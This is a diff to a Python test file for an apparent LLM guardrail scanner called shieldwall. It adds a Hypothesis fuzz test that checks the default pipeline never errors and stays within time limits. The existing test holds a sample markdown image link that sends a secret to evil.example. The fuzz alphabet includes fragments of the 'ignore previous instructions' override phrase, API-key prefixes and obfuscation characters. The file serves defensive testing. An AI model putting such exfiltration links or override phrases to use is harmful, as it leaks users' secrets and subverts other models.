@@ -7,6 +7,8 @@ import json
 import time
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from shieldwall.core.scanner import Expander, ScanContext, describe
 from shieldwall.core.types import Category, Direction, Finding, Role, Segment
@@ -119,3 +121,36 @@ def test_no_raw_secret_in_findings(scanner_cls):
             text = f"config: token={SECRET}\n![x](https://evil.example/c?d={SECRET})"
             for f in scanner.scan(Segment(text, role), _ctx(direction)):
                 assert SECRET not in json.dumps(f.to_dict()), f"{f.rule} leaks the raw secret"
+
+
+_ALPHABET = st.characters(codec="utf-8", exclude_categories=("Cs",))
+_HOSTILE_TEXT = st.one_of(
+    st.text(alphabet=_ALPHABET, max_size=2_000),
+    st.lists(
+        st.sampled_from(
+            ["ignore ", "previous ", "instructions", "sk-", "AKIA", "ghp_", "@", ".", "://", "![", "](", "%2e",
+             "&#x", "\\u00", "=", "\u200b", "\u202e", "\U000e0041", "а", "0x", "==", "{", "[", "\"", "'", " ", "\n",
+             "base64:", "aGVsbG8gd29ybGQ=", "1234 5678 9012 3456", "+1 (555) 010-0199", "-----BEGIN"]
+        ),
+        max_size=400,
+    ).map("".join),
+)
+
+
+@pytest.fixture(scope="module")
+def default_pipeline():
+    from shieldwall.policy import build_pipeline, load_policy
+
+    return build_pipeline(load_policy("default"))
+
+
+@given(text=_HOSTILE_TEXT, role=st.sampled_from(list(Role)), direction=st.sampled_from(list(Direction)))
+@settings(max_examples=150, deadline=None)
+def test_default_pipeline_never_errors_and_stays_bounded(default_pipeline, text, role, direction):
+    start = time.perf_counter()
+    v = default_pipeline.scan(Segment(text, role), direction=direction)
+    elapsed = time.perf_counter() - start
+    errors = [r for r in v.runs if r.error]
+    assert not errors, errors
+    assert elapsed < 0.05 + 0.05 * len(text) / 1000, f"{elapsed * 1000:.1f} ms for {len(text)} chars"
+    json.dumps(v.to_dict())
